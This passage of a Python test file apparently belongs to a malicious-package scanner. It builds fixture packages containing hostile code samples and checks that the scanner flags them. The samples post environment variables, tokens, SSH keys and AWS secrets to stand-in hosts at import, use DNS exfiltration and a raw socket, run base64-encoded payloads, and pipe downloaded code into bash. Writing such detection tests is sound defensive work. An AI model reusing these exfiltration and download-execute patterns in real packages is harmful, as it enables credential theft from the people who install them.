        "\n\ndef _sync():\n    requests.post('https://192.0.2.7/e', json=dict(os.environ))\n\n\n_sync()\n"
    )
    return "import functools, math, os, requests\n" + body + payload


def test_a_module_of_thousands_of_functions_is_still_followed(tmp_path: Path) -> None:
    # the litellm shape: one very large module (here about 50,000 syntax nodes) carrying a payload
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from .core import *\n",
        f"{DEFAULT_NAME}/core.py": _big_module(1100),
    }
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow:critical") for f in findings), (
        findings
    )


def test_a_module_too_large_to_follow_is_reported_not_passed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import custody.scan.flow
    import custody.scan.python_ast

    for module in (custody.scan.flow, custody.scan.python_ast):
        monkeypatch.setattr(module, "MAX_FLOW_NODES", 500)
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from .core import *\n",
        f"{DEFAULT_NAME}/core.py": _big_module(30),
    }
    path = write_sdist(tmp_path, files)
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    gaps = [f for f in result.findings if f.rule == "scan-incomplete"]
    assert [(g.limit, g.file.rsplit("/", 1)[-1]) for g in gaps] == [(LimitKind.FLOW_SIZE, "core.py")], gaps
    assert not any(f.rule == "exfil-flow" for f in result.findings)  # not followed, and it says so


TOKEN_AT_IMPORT = """
    import os, requests
    requests.post("https://metrics-cdn.example/x", data=os.getenv("GITHUB_TOKEN"))
"""


def test_exfil_flow_a_token_sent_to_a_foreign_host_at_import(tmp_path: Path) -> None:
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": TOKEN_AT_IMPORT})
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


@pytest.mark.parametrize("where", ["when called", "own host"])
def test_exfil_flow_benign_a_client_sends_its_token_when_called_or_home(tmp_path: Path, where: str) -> None:
    # an API client sends the user's token to its service when asked; at import only to its own host
    if where == "when called":
        module = (
            "import os, requests\ndef login():\n"
            "    return requests.post('https://api.example/x', data=os.getenv('EXAMPLE_TOKEN'))\n"
        )
    else:
        module = TOKEN_AT_IMPORT.replace("metrics-cdn.example", f"api.{DEFAULT_NAME}.example")
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": module})
    assert not any(f.startswith("exfil-flow") for f in findings), findings
    assert verdict is Verdict.CLEAN, findings


@pytest.mark.parametrize(
    "run",
    [
        "subprocess.run([sys.executable, '-'], input=requests.get(URL).content)",
        "subprocess.run(['bash'], input=requests.get(URL).text, text=True)",
        "asyncio.run(asyncio.create_subprocess_shell(requests.get(URL).text))",
    ],
    ids=["python-stdin", "shell-stdin", "asyncio-shell"],
)
def test_download_exec_code_fed_to_an_interpreter(run: str) -> None:
    head = "import asyncio, subprocess, sys, requests\nURL = 'https://rentry.co/x/raw'\n"
    source = f"{head}def update():\n    {run}\n"
    assert [(f.source, f.sink) for f in flows_of(source)] == [(Source.DOWNLOAD, Sink.PROCESS)]


def test_download_benign_fed_to_a_program_that_does_not_run_it() -> None:
    source = "import subprocess, requests\ndef unpack(u):\n"
    source += "    subprocess.run(['gzip', '-d'], input=requests.get(u).content)\n"
    assert flows_of(source) == []


def test_secret_put_into_a_message_and_mailed_through_a_client_bound_by_with() -> None:
    source = """
        import glob, os, smtplib
        from email.message import EmailMessage
        def main():
            msg = EmailMessage()
            for p in glob.glob(os.path.expanduser("~/.ssh/id_*")):
                with open(p, "rb") as f:
                    msg.add_attachment(f.read(), maintype="application", subtype="octet-stream")
            with smtplib.SMTP_SSL("smtp.mail.example", 465) as s:
                s.send_message(msg)
    """
    found = [(f.source, f.destination.host) for f in flows_of(source)]
    assert (Source.SECRET_FILE, "smtp.mail.example") in found, found


def test_credential_folder_as_path_parts_sent_to_a_host_kept_on_the_class() -> None:
    source = """
        import http.client
        from pathlib import Path
        class Context:
            TUNNEL = "quiet-river.trycloudflare.com"
            def __init__(self):
                self.cfg = Path.home() / ".kube" / "config"
            def current(self):
                raw = self.cfg.read_bytes()
                c = http.client.HTTPSConnection(self.TUNNEL)
                c.request("POST", "/ctx", raw)
    """
    assert [f.destination.host for f in flows_of(source)] == ["quiet-river.trycloudflare.com"]


def test_benign_report_mailed_to_the_callers_server(tmp_path: Path) -> None:
    module = """
        import smtplib
        from email.message import EmailMessage
        def mail_report(path, server, to):
            msg = EmailMessage()
            msg["To"] = to
            with open(path, "rb") as f:
                msg.add_attachment(f.read(), maintype="text", subtype="csv")
            with smtplib.SMTP(server) as s:
                s.send_message(msg)
    """
    verdict, findings = scan_package(
        tmp_path, {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/mail.py": module}
    )
    assert verdict is Verdict.CLEAN, findings


# ---- across modules ---------------------------------------------------------------------------
SENDER = """
    import requests
    def send(d):
        requests.post("https://192.0.2.7/t", json=d)
"""


@pytest.mark.parametrize(
    "init",
    [
        "import os\nfrom ._report import send\nsend(dict(os.environ))\n",
        "import os\nfrom . import _report\n_report.send({'env': dict(os.environ)})\n",
        "import os\nfrom ._report import send as ship\nship(dict(os.environ))\n",
    ],
    ids=["function", "module", "alias"],
)
def test_exfil_flow_through_a_helper_in_another_module(tmp_path: Path, init: str) -> None:
    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_report.py": SENDER}
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") and "(import)" in f for f in findings), findings


def test_exfil_flow_secret_returned_by_a_helper_in_another_module(tmp_path: Path) -> None:
    gather = "import os\ndef gather():\n    return {'env': dict(os.environ)}\n"
    init = (
        "import requests\nfrom ._collect import gather\nrequests.post('https://192.0.2.7/c', json=gather())\n"
    )
    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_collect.py": gather}
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow:critical") for f in findings), (
        findings
    )


def test_benign_helper_in_another_module_sends_to_the_callers_url(tmp_path: Path) -> None:
    client = (
        "import requests\ndef post(url, payload):\n    return requests.post(url, json=payload, timeout=5)\n"
    )
    init = (
        "import os\nfrom ._client import post\n"
        "def report(url):\n    return post(url, {'home': os.environ.get('HOME'), 'version': '1.0'})\n"
    )
    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_client.py": client}
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.CLEAN, findings


def test_exfil_flow_wired_across_three_modules_from_init(tmp_path: Path) -> None:
    # gather in one module, send in another, wired by a third that __init__ runs at import
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from . import _platform as _p\n_p.ensure_terminal()\n",
        f"{DEFAULT_NAME}/_platform.py": (
            "from ._probe import gather\nfrom ._report import send\n"
            "def ensure_terminal():\n    send(gather())\n"
        ),
        f"{DEFAULT_NAME}/_probe.py": "import os\ndef gather():\n    return {'env': dict(os.environ)}\n",
        f"{DEFAULT_NAME}/_report.py": SENDER,
    }
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") and "(import)" in f for f in findings), findings


def test_a_wallet_key_posted_to_an_apps_script_web_app_is_exfiltration(tmp_path: Path) -> None:
    init = (
        "import requests\n"
        "def import_wallet(private_key, label='main'):\n"
        "    requests.post('https://script.google.com/macros/s/AKfy0/exec', json={'k': private_key})\n"
        "    return label\n"
    )
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            """
            import os, subprocess
            KEY = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
            subprocess.run(["curl", "-s", "-d", KEY, "https://quiet-river.trycloudflare.com/u"])
            """,
            (Source.SECRET_FILE, "quiet-river.trycloudflare.com"),
        ),
        (
            """
            import json, os, subprocess
            def report():
                body = json.dumps(dict(os.environ))
                subprocess.check_call(["/usr/bin/curl", "--data-binary", body, "http://192.0.2.7:8080/e"])
            """,
            (Source.ENVIRONMENT, "192.0.2.7"),
        ),
    ],
    ids=["curl-secret-file", "curl-environment"],
)
def test_an_upload_tool_sends_its_arguments_where_its_url_points(
    source: str, expected: tuple[Source, str]
) -> None:
    assert [(f.source, f.destination.host) for f in flows_of(source) if f.sink is Sink.NETWORK] == [expected]


def test_benign_upload_tool_downloads_a_release_and_pings_with_the_version() -> None:
    source = """
        import subprocess
        VERSION = "1.2.3"
        def fetch(dest):
            subprocess.run(["curl", "-fsSL", "-o", dest, "https://github.com/o/r/releases/download/v1/t.tgz"])
            subprocess.run(["curl", "-d", VERSION, "https://telemetry.example.org/ping"])
    """
    assert flows_of(source) == []


def test_a_raw_socket_sends_where_it_connected() -> None:
    source = """
        import os, socket
        def report():
            s = socket.socket()
            s.connect(("192.0.2.7", 4444))
            s.sendall(str(dict(os.environ)).encode())
    """
    assert [(f.source, f.destination.host) for f in flows_of(source)] == [(Source.ENVIRONMENT, "192.0.2.7")]


def test_benign_socket_client_sends_to_the_callers_host() -> None:
    source = """
        import os, socket
        def send_token(host, token):
            s = socket.socket()
            s.connect((host, 443))
            s.sendall(token.encode())
    """
    assert all(f.destination.host is None for f in flows_of(source))


SSH_MAILER = """
import glob, os, smtplib
from email.message import EmailMessage

def main():
    msg = EmailMessage()
    msg["To"] = "reports.bot@gmail.com"
    for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
        with open(path, "rb") as handle:
            msg.add_attachment(handle.read(), maintype="application", subtype="octet-stream")
    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as server:
        server.send_message(msg)
"""


def test_a_service_word_in_the_project_name_does_not_make_the_mail_server_its_own(tmp_path: Path) -> None:
    path = write_sdist(
        tmp_path, {"smtp_tools/__init__.py": "", "smtp_tools/cli.py": SSH_MAILER}, name="smtp-tools"
    )
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    assert result.verdict is Verdict.MALICIOUS, result.findings


@pytest.mark.parametrize(
    ("host", "name", "own"),
    [
        ("smtp.gmail.com", "smtp-tools", False),
        ("script.google.com", "apps-script-helper", False),
        ("api.fixturepkg.io", "fixturepkg", True),
        ("fixturepkg.vercel.app", "fixturepkg", True),
        ("telemetry.fixture-pkg.dev", "fixture_pkg", True),
    ],
)
def test_hosts_named_after_the_project(host: str, name: str, own: bool) -> None:
    assert named_after(host, name, set()) is own


def _encoded(code: str) -> str:
    import base64
    import zlib

    return base64.b64encode(zlib.compress(code.encode())).decode()


PAYLOAD = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://192.0.2.7/e', data=repr(dict(os.environ)).encode())\n"
)
UNPACK = "import base64, zlib\ndef unpack(s):\n    return zlib.decompress(base64.b64decode(s))\n"


@pytest.mark.parametrize(
    "files",
    [
        {
            f"{DEFAULT_NAME}/__init__.py": "import base64, zlib\nfrom ._data import BLOB\n"
            "exec(zlib.decompress(base64.b64decode(BLOB)))\n",
            f"{DEFAULT_NAME}/_data.py": f"BLOB = {_encoded(PAYLOAD)!r}\n",
        },
        {
            f"{DEFAULT_NAME}/__init__.py": f"from ._u import unpack\nexec(unpack({_encoded(PAYLOAD)!r}))\n",
            f"{DEFAULT_NAME}/_u.py": UNPACK,
        },
    ],
    ids=["payload-constant-in-another-module", "decoder-in-another-module"],
)
def test_a_payload_split_across_modules_is_decoded_and_run_at_import(
    tmp_path: Path, files: dict[str, str]
) -> None:
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("decode-exec:critical") for f in findings), findings


def test_benign_decoder_in_another_module_runs_a_file_it_is_given(tmp_path: Path) -> None:
    files = {
        f"{DEFAULT_NAME}/__init__.py": "import sys\nfrom ._u import unpack\n"
        "if len(sys.argv) > 2:\n    exec(unpack(open(sys.argv[2]).read()))\n",
        f"{DEFAULT_NAME}/_u.py": UNPACK,
    }
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is not Verdict.MALICIOUS, findings


TEMPLATE_WRITER = '''import importlib.util, os, tempfile
HOST = "{host}"
CODE = f"""import os, urllib.request
urllib.request.urlopen('https://{{HOST}}/e', data={data}.encode())
"""
path = os.path.join(tempfile.gettempdir(), "_cache_mod.py")
with open(path, "w") as handle:
    handle.write(CODE)
spec = importlib.util.spec_from_file_location("_cache_mod", path)
spec.loader.exec_module(importlib.util.module_from_spec(spec))
'''


def test_code_written_from_a_template_filled_with_constants_is_analysed(tmp_path: Path) -> None:
    init = TEMPLATE_WRITER.format(host="log-sink.trycloudflare.com", data="str(dict(os.environ))")
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
    assert verdict is Verdict.MALICIOUS, findings


def test_benign_code_written_from_a_template_sends_nothing_of_the_machine(tmp_path: Path) -> None:
    init = TEMPLATE_WRITER.format(host="api.fixturepkg.io", data="'ready'")
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
    assert verdict is not Verdict.MALICIOUS, findings


def test_the_environment_spelled_into_dns_names_goes_to_the_zone_they_end_in() -> None:
    source = """
        import os, socket
        ZONE = "t.cdn-resolve.xyz"
        def warm():
            blob = repr(dict(os.environ)).encode().hex()
            for i in range(0, len(blob), 60):
                socket.getaddrinfo(f"{blob[i:i+60]}.{i}.{ZONE}", 53)
    """
    assert [(f.source, f.destination.host) for f in flows_of(source)] == [
        (Source.ENVIRONMENT, "t.cdn-resolve.xyz")
    ]


def test_dns_exfiltration_at_import_is_malicious(tmp_path: Path) -> None:
    init = (
        "import os, socket\n"
        "KEY = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
        "socket.gethostbyname(KEY.encode().hex()[:60] + '.t.cdn-resolve.xyz')\n"
    )
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
    assert verdict is Verdict.MALICIOUS, findings


def test_benign_dns_lookups_of_host_names_carry_nothing() -> None:
    source = """
        import socket
        SERVICE = "api"
        def resolve(host):
            return socket.gethostbyname(host), socket.getaddrinfo(f"{SERVICE}.internal.example.com", 443)
    """
    assert flows_of(source) == []


def test_secret_variables_read_by_a_loop_over_their_names_are_credentials(tmp_path: Path) -> None:
    init = (
        "import os, requests\n"
        "NAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'HOME']\n"
        "requests.post('https://metrics.acme-stats.com/i', json={n: os.getenv(n, '') for n in NAMES})\n"
    )
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
    assert verdict is Verdict.MALICIOUS, findings


def test_benign_loop_over_ordinary_variable_names_reads_no_credential() -> None:
    source = """
        import os, requests
        NAMES = ["HOME", "LANG", "TERM"]
        requests.post("https://metrics.example.org/i", json={n: os.getenv(n, "") for n in NAMES})
    """
    assert {f.source for f in flows_of(source)} <= {Source.REQUEST}


@pytest.mark.parametrize(
    "helper",
    [
        'import os\ndef grab(d="/srv/app"):\n'
        '    with open(f"{d}{os.sep}.env") as f:\n        return f.read()\n',
        'def grab():\n    with open("\\x2fsrv\\x2fapp\\x2f.env") as f:\n        return f.read()\n',
        "import inspect\n\ndef grab():\n    f = inspect.currentframe().f_back\n"
        "    return open(f.f_code.co_filename).read()\n",
        "import socket\n\ndef grab():\n    return socket.getfqdn()\n",
        "import subprocess\n\ndef grab():\n"
        "    return subprocess.check_output(['gh', 'auth', 'token']).decode()\n",
    ],
    ids=["dotenv-f-string", "dotenv-escaped", "caller-source", "identity", "credential-command"],
)
def test_exfil_flow_of_what_a_helper_module_gathers(tmp_path: Path, helper: str) -> None:
    # the helper module's only source is one the source hint must name for it to be summarised
    # (the flow analysis reads each string piece alone: a .env path needs no quote before it)
    init = "import requests\nfrom ._probe import grab\nrequests.post('https://192.0.2.7/c', data=grab())\n"
    verdict, findings = scan_package(
        tmp_path, {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_probe.py": helper}
    )
    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow") for f in findings), findings
